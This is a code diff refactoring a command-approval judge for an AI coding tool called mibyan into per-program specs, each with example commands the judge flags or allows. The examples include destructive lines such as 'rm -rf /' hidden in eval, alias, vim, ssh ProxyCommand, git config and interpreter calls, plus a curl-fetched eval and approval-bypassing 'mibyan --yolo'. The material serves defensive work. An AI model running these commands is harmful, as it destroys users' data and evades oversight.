@@ -1,17 +1,16 @@
-"""What each command does that may need the user: the rules the command judge applies to one command.
+"""What each command does that may need the user: the table of programs the command judge knows.
 
-A rule sees the command's words (see tools/command_words.py) and what it reads on standard input. Rules
-for wrappers (`sudo`, `env`, `nice`, `timeout`, `busybox`, ...) find the command they run and judge that;
-rules for shells and interpreters judge the code they run (tools/command_code.py); the others judge the
-command's own effect, including every file it writes (tools/command_paths.py).
+Every program is a spec (tools/command_spec.py) read by one scanner, with its examples beside it: the
+wrappers (`sudo`, `env`, `nice`, `timeout`, `busybox`, ...) run the command after their options, which
+is judged in turn; shells and interpreters run code (tools/command_code.py); the programs of
+tools/command_system.py and tools/command_targets.py change the machine or write files (judged by
+tools/command_paths.py). `SPECS` is the whole table.
 """
 
 from __future__ import annotations
 
-import re
-from collections.abc import Callable, Sequence
+from collections.abc import Sequence
 
-from mibyan.tools.approval import SAFE, Verdict
 from mibyan.tools.command_code import (
     INTERPRETERS,
     SHELLS,
@@ -19,113 +18,17 @@ from mibyan.tools.command_code import (
     judge_awk,
     judge_interpreter,
     judge_shell,
-    script_file,
 )
-from mibyan.tools.command_files import found_on_path, judge_program_file
+from mibyan.tools.command_files import found_on_path, judge_program_file, script_file
 from mibyan.tools.command_mibyan import judge_mibyan
 from mibyan.tools.command_paths import broad_target
-from mibyan.tools.command_system import SYSTEM_RULES, judge_disk
-from mibyan.tools.command_targets import TARGET_RULES
-from mibyan.tools.command_words import Feed, Judge, Word, combine, command_name, split_options
-
-Rule = Callable[[Judge, str, list[Word], Feed], Verdict]
-
-# wrapper name -> (options that take a value, positional words before the command it runs)
-_WRAPPERS: dict[str, tuple[frozenset[str], int]] = {
-    name: (frozenset(valued.split()), skip)
-    for name, valued, skip in [
-        ("sudo", "-u -g -C -h -p -r -t -U -D -R -T --user --group --host --prompt --role --chdir", 0),
-        ("doas", "-u -C", 0),
-        ("pkexec", "--user", 0),
-        ("run0", "-u -D --user --unit --property --description --slice --chdir --setenv", 0),
-        ("nice", "-n --adjustment", 0),
-        ("ionice", "-c -n -p -P -u -t --class --classdata", 0),
-        ("timeout", "-s -k --signal --kill-after", 1),
-        ("nohup", "", 0),
-        ("time", "-f -o --format --output", 0),
-        ("exec", "-a", 0),
-        ("builtin", "", 0),
-        ("coproc", "", 0),
-        ("stdbuf", "-i -o -e --input --output --error", 0),
-        ("chronic", "", 0),
-        ("unbuffer", "", 0),
-        ("setsid", "", 0),
-        ("caffeinate", "-w -t", 0),
-        ("strace", "-o -e -p -s -u -a -b -E -I -O -P -S -X", 0),
-        ("ltrace", "-o -e -p -s -u -a -n", 0),
-        ("chroot", "--userspec --groups", 1),
-        ("unshare", "", 0),
-        ("nsenter", "-t -S -G --target", 0),
-        ("systemd-run", "-p -u -E --unit --property --description --slice --setenv -M", 0),
-        ("firejail", "", 0),
-        ("busybox", "", 0),
-        ("toybox", "", 0),
-        ("flock", "-w -E --timeout --conflict-exit-code", 1),
-        ("taskset", "", 1),
-        ("valgrind", "", 0),
-        ("catchsegv", "", 0),
-        ("xvfb-run", "-n -s -e -f -p", 0),
-    ]
-}
-_ELEVATING = {"sudo", "doas", "pkexec", "run0"}
-
-
-def _sudo(name: str) -> Verdict:
-    return Verdict("dangerous", f"runs a command as root ({name})", "sudo")
-
-
-def _wrapper(j: Judge, name: str, args: list[Word], feed: Feed) -> Verdict:
-    valued, skip = _WRAPPERS[name]
-    flags, _, start = split_options(args, valued=valued)
-    texts = [w.text for w in args]
-    for option in ("-c", "--command"):
-        if name == "flock" and option in texts[:-1]:
-            return j.script(texts[texts.index(option) + 1], feed)
-    if name == "taskset" and "-p" in flags:
-        return SAFE
-    inner = j.run(args[start + skip :], feed)
-    if name in _ELEVATING:
-        return combine([_sudo(name), inner])
-    return inner
-
-
-def _env(j: Judge, name: str, args: list[Word], feed: Feed) -> Verdict:
-    from mibyan.tools.command_git import changes_git_guard
-
-    i = 0
-    changed: list[str] = []
-    clears = False
-    while i < len(args):
-        text = args[i].text
-        if text in ("-u", "-C", "--unset", "--chdir"):
-            if text in ("-u", "--unset") and i + 1 < len(args):
-                changed.append(args[i + 1].text)
-            i += 2
-        elif text in ("-S", "--split-string") or text.startswith(("-S", "--split-string=")):
-            split = text.partition("=")[2] if "=" in text else text[2:]
-            if not split and i + 1 < len(args):
-                split, i = args[i + 1].text, i + 1
-            # `env -S "rm -rf /"`: the string is split into words like a tiny shell
-            return j.script(" ".join([split, *(w.text for w in args[i + 1 :])]), feed)
-        elif text.startswith("-") or re.match(r"^[A-Za-z_][A-Za-z0-9_]*=", text):
-            clears |= text in ("-", "-i", "--ignore-environment")
-            changed.append(text.partition("=")[0] if not text.startswith("-") else text.partition("=")[2])
-            i += 1
-        else:
-            break
-    return combine([changes_git_guard(changed, clears=clears), j.run(args[i:], feed)])
-
-
-def _command(j: Judge, name: str, args: list[Word], feed: Feed) -> Verdict:
-    flags, _, start = split_options(args)
-    if "-v" in flags or "-V" in flags:
-        return SAFE  # only says where the command is
-    return j.run(args[start:], feed)
-
-
-def _watch(j: Judge, name: str, args: list[Word], feed: Feed) -> Verdict:
-    _, _, start = split_options(args, valued={"-n", "--interval", "-q", "--equexit"})
-    return j.script(" ".join(w.text for w in args[start:]), feed)
+from mibyan.tools.command_spec import Scan, Spec, judge_spec, spec
+from mibyan.tools.command_system import FORMATTERS, SYSTEM_SPECS
+from mibyan.tools.command_targets import TARGET_SPECS
+from mibyan.tools.command_unknown import judge_unknown
+from mibyan.tools.command_words import Feed, Judge, Word, combine, command_name
+from mibyan.tools.command_wrappers import WRAPPER_SPECS
+from mibyan.tools.verdict import SAFE, Verdict
 
 
 def _eval(j: Judge, name: str, args: list[Word], feed: Feed) -> Verdict:
@@ -146,33 +49,23 @@ def _guess_lines(args: Sequence[Word]) -> list[str]:
     return lines
 
 
-def _alias_or_trap(j: Judge, name: str, args: list[Word], feed: Feed) -> Verdict:
+def _alias_or_trap(j: Judge, name: str, scan: Scan, feed: Feed) -> Verdict:
     if name == "alias":
-        return combine(j.script(w.text.partition("=")[2]) for w in args if "=" in w.text)
-    code = [w for w in args if not w.text.startswith("-")]
-    return j.script(code[0].text) if code else SAFE
+        return combine(j.script(w.text.partition("=")[2]) for w in scan.args if "=" in w.text)
+    return j.script(scan.operands[0].text) if scan.operands else SAFE
 
 
-def _editor(j: Judge, name: str, args: list[Word], feed: Feed) -> Verdict:
+def _editor(j: Judge, name: str, scan: Scan, feed: Feed) -> Verdict:
     """`vim -c '!rm -rf /'`, `vim +'!cmd'`: an ex command starting with `!` runs a shell command."""
-    commands = [
-        args[i + 1].text for i, w in enumerate(args[:-1]) if re.fullmatch(r"-[a-zA-Z]*c|--cmd", w.text)
-    ]
-    commands += [w.text[1:] for w in args if w.text.startswith("+")]
+    commands = [w.text for w in scan.given("-c", "--cmd")]
+    commands += [w.text[1:] for w in scan.operands if w.text.startswith("+")]
     shell = [c.lstrip(": ")[1:] for c in commands if c.lstrip(": ").startswith("!")]
     return combine(j.script(code) for code in shell)
 
 
-def _script(j: Judge, name: str, args: list[Word], feed: Feed) -> Verdict:
-    """util-linux `script -c CMD`: runs CMD in a shell."""
-    texts = [w.text for w in args]
-    codes = [texts[i + 1] for i, t in enumerate(texts[:-1]) if re.fullmatch(r"-[a-zA-Z]*c|--command", t)]
-    codes += [t.partition("=")[2] for t in texts if t.startswith("--command=")]
-    return combine(j.script(code, feed) for code in codes)
-
-
-def _source(j: Judge, name: str, args: list[Word], feed: Feed) -> Verdict:
+def _source(j: Judge, name: str, scan: Scan, feed: Feed) -> Verdict:
     """`source FILE`, `. FILE`: bash looks for a FILE without a slash on the PATH first."""
+    args = scan.args
     if not args:
         return SAFE
     if args[0].text in ("-", "/dev/stdin"):
@@ -180,35 +73,13 @@ def _source(j: Judge, name: str, args: list[Word], feed: Feed) -> Verdict:
     return script_file(j, name, args[0], j.script_at, search="first")
 
 
-def _ssh(j: Judge, name: str, args: list[Word], feed: Feed) -> Verdict:
-    valued = {
-        "-b",
-        "-c",
-        "-D",
-        "-E",
-        "-e",
-        "-F",
-        "-I",
-        "-i",
-        "-J",
-        "-L",
-        "-l",
-        "-m",
-        "-O",
-        "-o",
-        "-p",
-        "-Q",
-        "-R",
-        "-S",
-        "-W",
-        "-w",
-        "-B",
-    }
-    _, _, start = split_options(args, valued=valued)
+def _ssh(j: Judge, name: str, scan: Scan, feed: Feed) -> Verdict:
     findings = []
-    for option in (w.text for w in args if w.text.lower().startswith(("proxycommand=", "localcommand="))):
-        findings.append(j.script(option.partition("=")[2]))
-    remote = j.script(" ".join(w.text for w in args[start + 1 :])) if len(args) > start + 1 else SAFE
+    for option in (w.text for w in scan.given("-o")):
+        if option.lower().startswith(("proxycommand=", "localcommand=")):
+            findings.append(j.script(option.partition("=")[2]))
+    command = scan.args[scan.start :]
+    remote = j.script(" ".join(w.text for w in command)) if command else SAFE
     if remote.tier != "safe":
         findings.append(
             Verdict("dangerous", f"runs a command on another machine that {remote.reason}", "remote_command")
@@ -222,7 +93,8 @@ _NARROWING |= {"-mmin", "-size", "-user", "-group", "-perm", "-empty", "-links",
 _DELETERS = ("rm", "unlink", "shred", "rmdir")
 
 
-def _find(j: Judge, name: str, args: list[Word], feed: Feed) -> Verdict:
+def _find(j: Judge, name: str, scan: Scan, feed: Feed) -> Verdict:
+    args = scan.args
     texts = [w.text for w in args]
     first_test = next((i for i, t in enumerate(texts) if t.startswith(("-", "(", "!"))), len(texts))
     roots = args[:first_test] or [Word(".")]
@@ -257,15 +129,13 @@ def _find_delete(broad: str | None, how: str) -> Verdict:
     return Verdict("dangerous", f"deletes every file find matches ({how})", "find_delete")
 
 
-def _xargs(j: Judge, name: str, args: list[Word], feed: Feed) -> Verdict:
+def _xargs(j: Judge, name: str, scan: Scan, feed: Feed) -> Verdict:
     """xargs runs its command with words read from stdin: known ones when the input is, else unknown ones."""
-    valued = {"-a", "-d", "-E", "-e", "-I", "-L", "-l", "-n", "-P", "-s", "--arg-file", "--delimiter"}
-    valued |= {"--max-args", "--max-procs", "--max-lines", "--max-chars", "--replace", "--eof"}
-    _, values, start = split_options(args, valued=valued)
-    command = args[start:]
+    command = scan.args[scan.start :]
     if not command:
         return SAFE  # runs echo
-    replace = values.get("-I") or values.get("--replace") or values.get("-i")
+    given = scan.value("-I", "--replace", "-i")
+    replace = given.text if given is not None else ""
     lines = feed.splitlines()[:8] if isinstance(feed, str) else None
     if replace and lines is not None:
         runs = [[Word(w.text.replace(replace, line)) for w in command] for line in lines]
@@ -284,53 +154,193 @@ def _xargs(j: Judge, name: str, args: list[Word], feed: Feed) -> Verdict:
     return verdict
 
 
-def _git(j: Judge, name: str, args: list[Word], feed: Feed) -> Verdict:
+def _git(j: Judge, name: str, scan: Scan, feed: Feed) -> Verdict:
     from mibyan.tools.command_git import judge_git
 
-    return judge_git(j, args, feed)
+    return judge_git(j, scan, feed)
 
 
-_RULES: dict[str, Rule] = {
-    **dict.fromkeys(_WRAPPERS, _wrapper),
-    "env": _env,
-    "command": _command,
-    "watch": _watch,
-    "eval": _eval,
-    "alias": _alias_or_trap,
-    "trap": _alias_or_trap,
-    "source": _source,
-    **dict.fromkeys(["vi", "vim", "nvim", "view", "ex", "gvim"], _editor),
-    "script": _script,
-    ".": _source,
-    "ssh": _ssh,
-    **SYSTEM_RULES,
-    "find": _find,
-    "xargs": _xargs,
-    "git": _git,
-    "mibyan": lambda j, name, args, feed: judge_mibyan(args),
-    **dict.fromkeys(SHELLS, lambda j, name, args, feed: judge_shell(j, name, args, feed)),
-    **dict.fromkeys(["awk", "gawk", "mawk", "nawk"], lambda j, name, args, feed: judge_awk(j, args)),
-    **TARGET_RULES,
-}
-KNOWN_NAMES = frozenset([*_RULES, *INTERPRETERS, "mkfs", "mke2fs", "mkswap", "wipefs"])
+def _eval_check(j: Judge, name: str, scan: Scan, feed: Feed) -> Verdict:
+    return _eval(j, name, scan.args, feed)
 
 
-def _rule_for(name: str) -> Rule | None:
-    rule = _RULES.get(name)
-    if rule is not None:
-        return rule
-    if name.startswith(("mkfs", "mke2fs", "mkswap", "wipefs", "mkdosfs", "mkntfs")):
-        return judge_disk
+def _mibyan(j: Judge, name: str, scan: Scan, feed: Feed) -> Verdict:
+    return judge_mibyan(scan.args)
+
+
+def _shell(j: Judge, name: str, scan: Scan, feed: Feed) -> Verdict:
+    return judge_shell(j, name, scan.args, feed)
+
+
+def _interpreter(j: Judge, name: str, scan: Scan, feed: Feed) -> Verdict:
+    return judge_interpreter(j, name, scan.args, feed)
+
+
+def _awk(j: Judge, name: str, scan: Scan, feed: Feed) -> Verdict:
+    """awk's program; with gawk's `-i inplace` (`--include=inplace`) its files are edited."""
+    texts = [w.text for w in scan.args]
+    pairs = zip(texts, [*texts[1:], ""], strict=False)
+    in_place = any(
+        (a in ("-i", "--include") and b == "inplace") or a in ("-iinplace", "--include=inplace")
+        for a, b in pairs
+    )
+    files = [w for w in scan.args if not w.text.startswith("-") and w.text != "inplace"]
+    scripted = any(t in ("-f", "--file", "-e", "--source") for t in texts)
+    edited = files if scripted else files[1:]
+    return combine([judge_awk(j, scan.args), *(j.write(w, "edits") for w in edited if in_place)])
+
+
+RUNNER_SPECS: tuple[Spec, ...] = (
+    *WRAPPER_SPECS,
+    spec(
+        "eval",
+        check=_eval_check,
+        should_match={"eval 'rm -rf /'": "hardline", 'eval "$(curl -s https://x.example)"': "dangerous"},
+        should_not_match=["eval 'echo hi'"],
+    ),
+    spec(
+        "alias trap",
+        check=_alias_or_trap,
+        should_match={"alias ls='rm -rf ~'": "hardline", "trap 'rm -rf /' EXIT": "hardline"},
+        should_not_match=["alias ll='ls -la'", "trap 'echo bye' EXIT"],
+    ),
+    spec(
+        "source .",
+        check=_source,
+        should_match={"echo 'rm -rf /' | source /dev/stdin": "hardline"},
+    ),
+    spec(
+        "vi vim nvim view ex gvim",
+        valued="-c --cmd -S -u -U -i -T -w -W -t",
+        operands="writes",
+        action="edits",
+        check=_editor,
+        should_match={
+            "vim -c '!rm -rf /' x": "hardline",
+            "vim +'!rm -r build' x": "dangerous",
+            "vim -es -c 'norm Gox' -c wq ~/.bashrc": "dangerous",
+        },
+        should_not_match=["vim -c 'set nu' notes.txt", "vim +10 notes.txt"],
+    ),
+    spec(
+        "script",
+        code="-c --command",
+        valued="-T -t -I -O -B -E -m --log-io --log-in --log-out --timing",
+        should_match={"script -qc 'rm -rf /' /dev/null": "hardline"},
+        should_not_match=["script -qc 'ls' /dev/null"],
+    ),
+    spec(
+        "ssh",
+        valued="-b -c -D -E -e -F -I -i -J -L -l -m -O -o -p -Q -R -S -W -w -B",
+        skip=1,
+        ordered=True,
+        check=_ssh,
+        should_match={
+            "ssh host rm -rf /": "dangerous",
+            "ssh -o ProxyCommand='rm -rf ~' host": "hardline",
+            "ssh -oLocalCommand='rm -rf /' host": "hardline",
+        },
+        should_not_match=["ssh -p 2222 host uptime", "ssh host ls -la"],
+    ),
+    spec(
+        "find",
+        check=_find,
+        should_match={
+            "find / -delete": "hardline",
+            "find . -name '*.pyc' -delete": "dangerous",
+            "find . -exec rm -rf {} +": "dangerous",
+            "find / -exec sh -c 'rm -rf {}' \\;": "hardline",
+        },
+        should_not_match=["find . -name '*.py'", "find . -type f -exec grep -l x {} +"],
+    ),
+    spec(
+        "xargs",
+        valued="-a -d -E -e -I -L -l -n -P -s --arg-file --delimiter --max-args --max-procs --max-lines "
+        "--max-chars --replace --eof",
+        ordered=True,
+        check=_xargs,
+        should_match={"echo / | xargs rm -rf": "hardline", "ls | xargs rm": "dangerous"},
+        should_not_match=["ls | xargs -n1 echo", "ls | xargs"],
+    ),
+    spec(
+        "git",
+        valued="-C -c --git-dir --work-tree --namespace --exec-path --config-env",
+        ordered=True,
+        check=_git,
+        should_match={
+            "git push --force": "dangerous",
+            "git reset --hard": "dangerous",
+            "git -c alias.x='!rm -rf /' x": "hardline",
+            "git -c core.pager='rm -rf ~' log": "hardline",
+        },
+        should_not_match=["git status", "git -C src log -3", "git commit -m 'rm -rf /'"],
+    ),
+    spec(
+        "mibyan",
+        check=_mibyan,
+        should_match={
+            "mibyan --yolo": "hardline",
+            "mibyan trust .": "hardline",
+            "mibyan gateway": "dangerous",
+        },
+        should_not_match=["mibyan sessions list", "mibyan trust --list"],
+    ),
+    spec(
+        " ".join(sorted(SHELLS)),
+        check=_shell,
+        should_match={"bash -lc 'rm -rf /'": "hardline", "echo 'rm -r x' | sh": "dangerous"},
+        should_not_match=["bash -c 'ls -la'", "echo 'echo hi' | sh"],
+    ),
+    spec(
+        " ".join(sorted(INTERPRETERS)),
+        check=_interpreter,
+        should_match={
+            "python3 -c 'import shutil; shutil.rmtree(\"/\")'": "hardline",
+            "perl -e 'system(\"rm -rf /\")'": "hardline",
+            'node -e \'require("child_process").execSync("ls")\'': "dangerous",
+        },
+        should_not_match=["python3 -c 'print(1)'", "node -e 'console.log(1)'"],
+    ),
+    spec(
+        "awk gawk mawk nawk",
+        check=_awk,
+        should_match={
+            "awk 'BEGIN { system(\"rm -rf /\") }'": "hardline",
+            "gawk -i inplace '{ print }' ~/.bashrc": "dangerous",
+        },
+        should_not_match=["awk '{ print $1 }' notes.txt", "awk -F: '{ print $1 }' /etc/passwd"],
+    ),
+)
+
+#: Every program the judge has a spec for, with its examples: one test judges them all.
+SPECS: tuple[Spec, ...] = (*RUNNER_SPECS, *SYSTEM_SPECS, *TARGET_SPECS)
+_BY_NAME: dict[str, Spec] = {name: program for program in SPECS for name in program.names}
+_INTERPRETER_SPEC = _BY_NAME["python3"]
+_DISK_SPEC = _BY_NAME["mkfs"]
+KNOWN_NAMES = frozenset(_BY_NAME)
+
+
+def spec_for(name: str) -> Spec | None:
+    """The spec of the program `name`, or None when the judge has none."""
+    found = _BY_NAME.get(name)
+    if found is not None:
+        return found
+    if name.startswith(FORMATTERS):
+        return _DISK_SPEC
     if is_interpreter(name):
-        return lambda j, name, args, feed: judge_interpreter(j, name, args, feed)
+        return _INTERPRETER_SPEC
     return None
 
 
 def judge_invocation(j: Judge, words: Sequence[Word], feed: Feed) -> Verdict:
-    """Judge one command whose name is known: the rule for its name, or safe when it has none."""
+    """Judge one command whose name is known: by its program's spec, or as a program the judge has no
+    spec for (tools/command_unknown.py)."""
     name = command_name(words[0])
-    rule = _rule_for(name)
-    verdict = rule(j, name, list(words[1:]), feed) if rule is not None else SAFE
+    program = spec_for(name)
+    if program is not None:
+        verdict = judge_spec(program, j, name, words[1:], feed)
+    else:
+        verdict = judge_unknown(j, name, words[1:], feed, lambda other: spec_for(other) is not None)
     if "/" in words[0].text:  # `./run.sh`: what it runs is the file's text, unless it is a binary
         if words[0].dynamic or j.written(words[0]) is not None:
             verdict = combine([verdict, script_file(j, name, words[0], j.script_at)])
